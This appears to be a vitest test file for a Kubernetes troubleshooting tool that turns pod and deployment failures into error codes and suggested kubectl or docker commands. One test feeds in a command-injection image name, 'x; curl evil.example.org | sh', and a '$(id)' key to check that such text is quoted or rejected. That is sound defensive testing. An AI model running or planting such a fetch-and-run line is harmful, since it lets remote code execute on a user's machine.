import { describe, expect, it } from "vitest";
import type { KubeObject } from "./object.ts";
import { obstacleOf, pullMessages } from "./reasons.ts";
import { workloadObstacle } from "./workload-obstacle.ts";

function pod(status: Record<string, unknown>, more: Record<string, unknown> = {}): KubeObject {
  return {
    apiVersion: "v1",
    kind: "Pod",
    metadata: { name: "web-7c9d-x2v", namespace: "catalogue", uid: "u1" },
    status: {
      containerStatuses: [
        {
          name: "web",
          image: "registry.example.org/not-found/web:1",
          ready: false,
          restartCount: 0,
          ...status,
        },
      ],
      ...more,
    },
  };
}

const waiting = (reason: string, message = ""): Record<string, unknown> => ({
  state: { waiting: { reason, message } },
});
const ended = (exitCode: number, reason = "Error"): Record<string, unknown> => ({
  terminated: { exitCode, reason },
});

describe("obstacleOf", () => {
  it.each([
    [
      "ErrImagePull",
      "rpc error: code = NotFound desc = failed to resolve reference: not found",
      "RA3101",
      false,
    ],
    ["ErrImagePull", "manifest unknown: manifest unknown", "RA3101", false],
    ["InvalidImageName", "couldn't parse image name", "RA3101", false],
    [
      "ErrImagePull",
      "failed to authorize: unexpected status from GET request: 401 Unauthorized",
      "RA3102",
      false,
    ],
    [
      "ErrImagePull",
      "pull access denied, repository does not exist or may require authorization",
      "RA3102",
      false,
    ],
    ["ErrImagePull", "toomanyrequests: You have reached your pull rate limit", "RA3103", true],
    ["ErrImagePull", "dial tcp: i/o timeout", "RA3104", true],
    [
      "ErrImagePull",
      "unexpected status from HEAD request to https://registry.example.org/v2/registry.example.org/not-found/web:1: 503 Service Unavailable",
      "RA3104",
      true,
    ],
    ["ErrImagePull", "no match for platform in manifest: not found", "RA3116", false],
    ["ImagePullBackOff", "Back-off pulling image", "RA3104", true],
    [
      "CreateContainerConfigError",
      "couldn't find key REPLICA_URL in Secret catalogue/catalogue-db",
      "RA3105",
      false,
    ],
    ["CreateContainerConfigError", 'secret "catalogue-db" not found', "RA3105", false],
    [
      "CreateContainerConfigError",
      "couldn't find key A in ConfigMap catalogue/settings",
      "RA3106",
      false,
    ],
    ["CreateContainerConfigError", 'configmap "settings" not found', "RA3106", false],
    [
      "CreateContainerConfigError",
      "container has runAsNonRoot and image will run as root",
      "RA3107",
      false,
    ],
    ["CreateContainerError", "context deadline exceeded", "RA3107", true],
  ])("%s: %s is %s, may heal: %s", (reason, message, code, mayHeal) => {
    expect(obstacleOf(pod(waiting(reason, message)))).toMatchObject({
      code,
      mayHeal,
      clusterSaid: message,
      container: "web",
    });
  });

  it("takes a name that is none for final", () => {
    expect(obstacleOf(pod(waiting("InvalidImageName", "couldn't parse image name")))).toMatchObject(
      { reason: "image-name", mayHeal: false },
    );
  });

  it("remembers the first message of a pull through the back-off", () => {
    const said = new Map(pullMessages(pod(waiting("ErrImagePull", "manifest unknown"))));
    expect(
      obstacleOf(pod(waiting("ImagePullBackOff", "Back-off pulling image")), { firstSaid: said }),
    ).toMatchObject({ code: "RA3101", mayHeal: false, clusterSaid: "manifest unknown" });
  });

  it("gives the command that adds a missing key", () => {
    expect(
      obstacleOf(
        pod(
          waiting(
            "CreateContainerConfigError",
            "couldn't find key REPLICA_URL in Secret catalogue/catalogue-db",
          ),
        ),
      )?.command,
    ).toBe(
      `kubectl -n catalogue patch secret catalogue-db --type merge -p '{"stringData":{"REPLICA_URL":"..."}}'`,
    );
  });

  it("calls a crash final after the second restart, not before, and never for exit code 0", () => {
    const loop = (restartCount: number, exitCode: number, reason?: string): KubeObject =>
      pod({
        ...waiting("CrashLoopBackOff", "back-off 10s restarting failed container"),
        lastState: ended(exitCode, reason),
        restartCount,
      });
    expect(obstacleOf(loop(1, 1))).toMatchObject({ reason: "crash", mayHeal: true, exitCode: 1 });
    expect(obstacleOf(loop(2, 1))).toMatchObject({
      code: "RA3108",
      mayHeal: false,
      exitCode: 1,
      log: "current",
    });
    expect(obstacleOf(loop(5, 0))).toMatchObject({ code: "RA3108", mayHeal: true });
    const killed = pod({ state: ended(137, "OOMKilled") });
    expect(obstacleOf(killed)).toMatchObject({ reason: "out-of-memory-once", mayHeal: true });
    expect(obstacleOf(loop(2, 137, "OOMKilled"))).toMatchObject({ code: "RA3109", mayHeal: false });
  });

  it("reads the log of the run before when the container was started again", () => {
    expect(
      obstacleOf(pod({ state: { running: {} }, lastState: ended(1), restartCount: 2 })),
    ).toMatchObject({ code: "RA3108", mayHeal: true, log: "previous" });
  });

  it("sees a container that runs and is not ready, and one that is ready", () => {
    expect(obstacleOf(pod({ state: { running: {} } }))).toMatchObject({
      code: "RA3110",
      mayHeal: true,
    });
    expect(obstacleOf(pod({ state: { running: {} }, ready: true }))).toBeUndefined();
    expect(
      obstacleOf(
        pod({ state: { running: {} }, ready: true, lastState: ended(1), restartCount: 3 }),
      ),
    ).toBeUndefined();
  });

  it("sees an init container's crash before the container that waits for it", () => {
    const status = {
      initContainerStatuses: [
        {
          name: "migrate",
          ready: false,
          restartCount: 2,
          state: { waiting: { reason: "CrashLoopBackOff" } },
          lastState: ended(3),
        },
      ],
    };
    expect(obstacleOf(pod(waiting("PodInitializing"), status))).toMatchObject({
      container: "migrate",
      exitCode: 3,
      mayHeal: false,
    });
  });

  it("takes a warning about a mount for history once containers begin", () => {
    const message = 'MountVolume.SetUp failed for volume "tls" : secret "web-tls" not found';
    const warnings = [{ reason: "FailedMount", message, at: "" }];
    const creating = pod(waiting("ContainerCreating"));
    expect(obstacleOf(creating, { warnings })?.reason).toBe("secret-missing");
    expect(obstacleOf(pod({ state: { running: {} } }), { warnings })?.reason).toBe("not-ready");
    const conditions = [{ type: "PodReadyToStartContainers", status: "True" }];
    const pulling = pod(waiting("ContainerCreating"), { conditions });
    expect(obstacleOf(pulling, { warnings })).toBeUndefined();
  });

  it("sees a pod that fits on no node", () => {
    const conditions = [
      {
        type: "PodScheduled",
        status: "False",
        reason: "Unschedulable",
        message: "0/3 nodes are available: 3 Insufficient memory.",
      },
    ];
    const unplaced = pod({});
    unplaced["status"] = { phase: "Pending", conditions };
    expect(obstacleOf(unplaced)).toMatchObject({
      code: "RA3111",
      mayHeal: true,
      clusterSaid: "0/3 nodes are available: 3 Insufficient memory.",
    });
  });

  it("quotes foreign text in a command", () => {
    const hostile = pod({
      ...waiting("ErrImagePull", "not found"),
      image: "x; curl evil.example.org | sh",
    });
    expect(obstacleOf(hostile)?.command).toBe(
      "docker buildx imagetools inspect 'x; curl evil.example.org | sh'",
    );
    expect(
      obstacleOf(
        pod(waiting("CreateContainerConfigError", "couldn't find key $(id) in Secret a/b")),
      )?.code,
    ).toBe("RA3107");
  });
});

describe("workloadObstacle", () => {
  const workload = (
    observedGeneration: number,
    ...conditions: Record<string, unknown>[]
  ): KubeObject => ({
    apiVersion: "apps/v1",
    kind: "Deployment",
    metadata: { name: "web", namespace: "catalogue", generation: 3 },
    status: { observedGeneration, conditions },
  });
  const late = {
    type: "Progressing",
    status: "False",
    reason: "ProgressDeadlineExceeded",
    message: "has timed out progressing",
  };

  it("tells a quota from an admission rule", () => {
    const failure = (message: string): Record<string, unknown> => ({
      type: "ReplicaFailure",
      status: "True",
      reason: "FailedCreate",
      message,
    });
    expect(
      workloadObstacle(
        workload(3, failure('pods "web-1" is forbidden: exceeded quota: small, requested: pods=1')),
      ),
    ).toMatchObject({ code: "RA3112", because: expect.stringContaining("quota small") as string });
    expect(workloadObstacle(workload(3, failure("admission webhook says no")))).toMatchObject({
      code: "RA3113",
      reason: "pods-not-made",
    });
    const ranges = failure('pods "web-1" is forbidden: maximum memory usage per Pod is 1Gi');
    expect(workloadObstacle(workload(3, ranges))).toMatchObject({
      reason: "pods-refused",
      because: expect.stringContaining("maximum memory usage per Pod is 1Gi") as string,
    });
  });

  it("honours the progress deadline only of the present generation", () => {
    expect(workloadObstacle(workload(3, late))).toMatchObject({
      reason: "progress-deadline",
      mayHeal: false,
    });
    expect(workloadObstacle(workload(2, late))).toBeUndefined();
  });
});
